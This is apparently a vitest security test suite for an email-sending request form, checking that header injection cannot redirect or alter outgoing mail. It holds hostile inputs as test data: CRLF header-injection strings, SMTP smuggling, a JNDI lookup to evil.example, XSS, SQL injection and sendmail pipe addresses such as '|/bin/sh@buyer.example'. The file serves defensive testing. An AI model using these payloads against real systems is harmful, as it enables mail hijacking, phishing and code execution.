import type { AddressInfo } from 'node:net';
import { domainToASCII } from 'node:url';
import nodemailer from 'nodemailer';
import PostalMime from 'postal-mime';
import { SMTPServer } from 'smtp-server';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { toMime } from '../../../functions/adapters/mime.ts';
import { smtpMailer } from '../../../functions/adapters/smtp.ts';
import { defang } from '../../../functions/mail/defang.ts';
import type { Mailer, Message } from '../../../functions/ports/mail.ts';
import { readAddress } from '../../../src/schemas/mail-address.ts';
import { spread } from '../../support/spread.ts';
import { makeApp, SITE } from '../support/make-app.ts';
import { ada } from '../support/visitor.ts';
import { confirm, SIGNATURE } from '../support/walk.ts';

const FROM = { name: 'Northwind Cloud Trust center', address: 'trust@northwind.example' };
const GOLDEN = 'auto-submitted content-type date from message-id mime-version subject to'.split(' ');
const SEPARATORS = [
  '\r\n',
  '\n',
  '\r',
  '\r\n ',
  '\n\t',
  '\u0000',
  '\u000b',
  '\u000c',
  '\u0085',
  '\u2028',
  '\u2029',
  '%0d%0a',
  '\\r\\n',
  '&#13;&#10;',
  '\u560d\u560a',
  '=0D=0A',
  '\u{feff}',
  '\u202e',
  '\u2066',
];
const HEADERS = [
  'Bcc: victim@other.example',
  'To: victim@other.example',
  'Reply-To: evil@other.example',
  'Subject: Buy',
  'Content-Type: text/html',
  '\r\n<b>body</b>',
  'X-Evil: 1',
];
const WORDS = [
  ...SEPARATORS.flatMap((gap) => HEADERS.map((header) => `Ada${gap}${header}`)),
  '=?utf-8?Q?=0D=0ABcc:_victim@other.example?=',
  '=?utf-8?B?DQpCY2M6IHZpY3RpbUBvdGhlci5leGFtcGxl?=',
  '=?iso-8859-1?Q?a?= =?utf-8?Q?b?=',
  '"><script>alert(1)</script>',
  'Ada <victim@other.example>',
  'victim@other.example, other@other.example;',
  'Team: victim@other.example, b@other.example;',
  '.\r\nQUIT',
  '\r\n.\r\nMAIL FROM:<a@b.example>',
  '\ud800',
  'x'.repeat(110),
  'x'.repeat(100_000 / 2),
  '🙂'.repeat(60),
  '\u0024{jndi:ldap://evil.example}',
  '{{7*7}}',
  "'; drop table outbox; --",
  '⟦title⟧',
  'http://evil.example',
  'https://trust.northwind.example.evil.example/review/abc',
  'javascript:alert(1)',
];
const ADDRESSES = [
  ...SEPARATORS.flatMap((gap) => [
    `ada@buyer.example${gap}Bcc: victim@other.example`,
    `ada${gap}@buyer.example`,
    `ada@buyer${gap}.example`,
  ]),
  ...[',', ';', ' ', ':', '|', '\\', '/', '<', '>', '(', ')', '[', ']', '"', "'"].flatMap((mark) => [
    `ada@buyer.example${mark}victim@other.example`,
    `ada${mark}victim@other.example@buyer.example`,
    `${mark}ada@buyer.example`,
  ]),
  '"ada@buyer.example,victim"@other.example',
  '"ada, victim"@other.example',
  '"a\\"b"@other.example',
  '"\r\nBcc: x@y.example"@other.example',
  'Ada <ada@buyer.example>',
  '<ada@buyer.example>',
  'Group: ada@buyer.example, victim@other.example;',
  'undisclosed-recipients:;',
  '@relay.example:ada@buyer.example',
  'ada%victim@other.example',
  'ada!victim@other.example',
  'ada@[127.0.0.1]',
  'ada@[IPv6:::1]',
  'ada@buyer.example.',
  'ada@.buyer.example',
  'ada@buyer..example',
  'ada@@buyer.example',
  'ada@buyer.example@other.example',
  'ada(comment)@buyer.example',
  'ada@buyer.example(comment)',
  '=?utf-8?Q?ada=40buyer.example?=',
  'ada@xn--bcher-kva.example',
  'ada@bücher.example',
  'ädä@buyer.example',
  'ada@buyer。example',
  'ada＠buyer.example',
  `${'a'.repeat(65)}@buyer.example`,
  `${'a'.repeat(64)}@${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(60)}.example`,
  `a@${'b.'.repeat(200)}example`,
  '-oQ/tmp@buyer.example',
  '-be@buyer.example',
  '|/bin/sh@buyer.example',
  'ada@localhost',
  'ada',
  '',
  ' ',
  'toString',
  '__proto__@buyer.example',
  "ada'--@buyer.example",
];

/** The server shows internationalized names decoded. */
const ascii = (address: string): string => {
  const at = address.lastIndexOf('@');
  return `${address.slice(0, at)}@${domainToASCII(address.slice(at + 1))}`;
};

interface Taken {
  to: string[];
  raw: string;
}
const taken: Taken[] = [];
const smtp = new SMTPServer({
  authOptional: true,
  disableReverseLookup: true,
  disabledCommands: ['STARTTLS', 'AUTH'],
  onData(stream, session, done) {
    const chunks: Buffer[] = [];
    stream.on('data', (chunk: Buffer) => chunks.push(chunk));
    stream.on('end', () => {
      taken.push({ to: session.envelope.rcptTo.map((one) => one.address), raw: Buffer.concat(chunks).toString() });
      done();
    });
  },
});
let url = '';
beforeAll(async () => {
  await new Promise<void>((ready) => smtp.listen(0, '127.0.0.1', ready));
  url = `smtp://127.0.0.1:${(smtp.server.address() as AddressInfo).port}`;
});
afterAll(() => smtp.close());

/** Sends over the wire, and writes the same message with nodemailer's stream transport. */
function bothWays(): Mailer & { streamed: string[]; sent: Message[] } {
  const wire = smtpMailer(url, FROM);
  const stream = nodemailer.createTransport({ streamTransport: true, buffer: true, newline: 'windows' });
  const streamed: string[] = [];
  const sent: Message[] = [];
  return {
    streamed,
    sent,
    async send(message) {
      sent.push(message);
      const { message: eml } = await stream.sendMail(toMime(message, FROM));
      streamed.push(String(eml));
      await wire.send(message);
    },
  };
}

async function expectGolden(raw: string, to: string): Promise<void> {
  const mail = await PostalMime.parse(raw);
  expect(mail.headers.map((one) => one.key).sort()).toEqual(GOLDEN);
  expect(mail.to?.map((one) => ascii(one.address ?? ''))).toEqual([ascii(to)]);
  expect([mail.cc, mail.bcc, mail.replyTo]).toEqual([undefined, undefined, undefined]);
  expect(mail.from).toEqual(FROM);
  expect(mail.attachments).toEqual([]);
}

const fields = ['name', 'company', 'title', 'purpose'] as const;
const payloads = [
  ...WORDS.map((text) => ({
    what: `words ${JSON.stringify(text.slice(0, 40))}`,
    body: Object.fromEntries(fields.map((one) => [one, text])),
    email: '',
  })),
  ...ADDRESSES.map((email) => ({ what: `address ${JSON.stringify(email.slice(0, 60))}`, body: {}, email })),
];

test('there are 200 payloads or more', () => {
  expect(new Set(payloads.map((one) => JSON.stringify(one))).size).toBe(payloads.length);
  expect(payloads.length).toBeGreaterThanOrEqual(200);
});

describe('injection', () => {
  test.each(spread(payloads, 30))('$what', async ({ body, email }) => {
    const mailer = bothWays();
    const rig = await makeApp({ mailer });
    const before = await rig.snapshot();
    const first = taken.length;
    const ask = (given: object) =>
      rig.app.request(`${SITE}/api/requests`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ ...ada, documents: ['soc-2'], ...given }),
      });
    const read = readAddress(email.trim().toLowerCase());
    // The domain is mailed in ASCII, whatever script it was typed in.
    const to = email === '' && Object.keys(body).length > 0 ? ada.email : 'address' in read ? read.address : email;
    const given = email === '' && Object.keys(body).length > 0 ? body : { email };
    const answer = await ask(given);
    await rig.settle();
    if (answer.status !== 202) {
      expect([400, 413, 422]).toContain(answer.status);
      expect(await rig.snapshot()).toBe(before);
      expect(taken).toHaveLength(first);
      // What the form refuses in one field it may take in another: each alone, all the way to the approver.
      for (const [field, value] of Object.entries(body))
        if ((await ask({ [field]: value, email: `${field}@buyer.example` })).status === 202) await rig.settle();
    }
    const mails = taken.slice(first);
    if (answer.status === 202) expect(mails.map((one) => one.to.map(ascii))).toEqual([[to]]);
    for (const [at, { to: recipients, raw }] of mails.entries()) {
      expect(recipients).toHaveLength(1);
      for (const eml of [raw, mailer.streamed[at] ?? '']) await expectGolden(eml, recipients[0] ?? '');
      // A first mail to a stranger says nothing that a stranger wrote.
      expect(raw).not.toMatch(/victim|evil|Buy\b|Łucja|alert|jndi/);
    }
  });
});

describe('in the approver’s mail', () => {
  // Each takes a whole flow of six mails: each separator with one of the headers, by turns.
  const printable = spread(
    WORDS.filter(
      (text, at) =>
        (at % HEADERS.length === Math.floor(at / HEADERS.length) % HEADERS.length ||
          at >= SEPARATORS.length * HEADERS.length) &&
        text.length < 110 &&
        text.isWellFormed(),
    ),
    10,
  );
  test(`${printable.length} payloads are text: one recipient, golden headers, one link of ours`, async () => {
    const mailer = bothWays();
    const rig = await makeApp({ mailer });
    rig.deps.settings.confirmationsPerHour = 1000;
    let asked = 0;
    for (const [at, purpose] of printable.entries()) {
      rig.deps.peer = () => `10.3.${at}.1`;
      rig.pass(0.1);
      const person = { ...ada, email: `reader@buyer${at}.example`, purpose };
      const answer = await rig.app.request(`${SITE}/api/requests`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ ...person, documents: ['soc-2'] }),
      });
      if (answer.status !== 202) continue;
      asked += 1;
      await rig.settle();
      rig.mails.push(...mailer.sent.splice(0));
      const { visitor, page } = await confirm(rig, person);
      await visitor.submit(page, { ...SIGNATURE, signer: purpose.replace(/[^ -~]/g, '') || 'x' });
      await rig.settle();
      rig.mails.push(...mailer.sent.splice(0));
    }
    expect(asked).toBeGreaterThan(printable.length * 0.4);
    const staff = rig.mails.filter((one) => one.to.endsWith('@northwind.example'));
    expect(staff.length).toBeGreaterThan(asked);
    for (const mail of staff) {
      expect(mail.subject).not.toMatch(/victim|evil|Łucja|[\r\n]/);
      for (const link of mail.text.matchAll(/[a-z]+:\/\/\S+/gi))
        expect(link[0]).toMatch(/^(https:\/\/trust\.northwind\.example\/(review|\.well-known)\/|hxxps?:\/\/)/);
      const targets = [...mail.html.matchAll(/<a [^>]*href="([^"]*)"/g)].map(([, at]) => at);
      for (const at of targets) expect(at).toMatch(/^https:\/\/trust\.northwind\.example\/(review|\.well-known)\//);
      expect(new Set(targets).size).toBeLessThanOrEqual(1);
      expect(mail.html).not.toMatch(/<(script|img|b)\b/);
      expect(
        mail.text.match(/.*(?:evil\.example|other\.example|victim@).*|^(?:Bcc|To|Reply-To|X-Evil|Content-Type):.*/gm),
      ).toBeNull();
    }
    for (const one of taken) {
      expect(one.to).toHaveLength(1);
      expect((await PostalMime.parse(one.raw)).replyTo).toBeUndefined();
    }
  }, 180_000);

  test('no program finds a link in what was defanged', () => {
    const words = [
      'http://evil.example/x',
      'HTTPS://EVIL.EXAMPLE',
      'ftp://evil.example',
      'www.evil.example',
      'evil.example/path?x=1',
      'mail evil@evil.example now',
      'evil。example',
      'evil．example',
      'ht\u200btp://evil\u200b.example',
      'mailto:x@evil.example',
      'javascript:alert(1)',
      'data:text/html,x',
      '192.0.2.1/x',
      'xn--vil-6cd.example',
      'see(evil.example)',
      'evil.example.',
      'ｅｖｉｌ＠evil．example',
    ];
    for (const text of words) {
      const safe = defang(text);
      expect(safe).not.toMatch(/https?:|ftp:|mailto:|javascript:|data:|@|＠/i);
      expect(safe).not.toMatch(/[\p{L}\p{N}][.\u3002\uff0e\uff61][\p{L}\p{N}]/u);
    }
    expect(defang('At 10:30, version 2. We use it.')).toBe('At 10:30, version 2. We use it.');
  });
});
